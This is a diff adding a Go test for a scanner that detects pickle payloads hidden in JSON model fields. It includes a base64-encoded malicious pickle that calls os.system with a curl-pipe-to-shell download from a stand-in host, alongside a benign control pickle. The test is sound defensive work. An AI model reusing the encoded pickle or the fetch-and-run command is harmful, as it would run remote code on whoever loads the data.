@@ -225,3 +225,22 @@ func TestAProgramIsToldFromData(t *testing.T) {
 		}
 	}
 }
+
+func TestAPickleIsReadForWhatItCalls(t *testing.T) {
+	const calls = "gASVOgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjB9jdXJsIC1zIGh0dHA6Ly8xOTIuMC4yLjEveCB8IHNolIWUUpQu"
+	const plain = "gASVFQAAAAAAAACMEWEgdGV4dCB3aXRob3V0IGNhbGyULg=="
+	for name, tt := range map[string]struct{ text, want string }{
+		"one that starts a program": {`{"model": "` + calls + `"}`, "curl -s http://192.0.2.1/x | sh"},
+		"one that is a text":        {`{"model": "` + plain + `"}`, ""},
+	} {
+		found := ""
+		for _, r := range Payloads(gate.LanguageJSON, []byte(tt.text), NewBudget(int64(len(tt.text)))) {
+			if strings.Contains(r.Origin, "pickle") {
+				found = string(r.Text)
+			}
+		}
+		if (tt.want == "") != (found == "") || !strings.Contains(found, tt.want) {
+			t.Errorf("%s: read as %q, want %q", name, found, tt.want)
+		}
+	}
+}
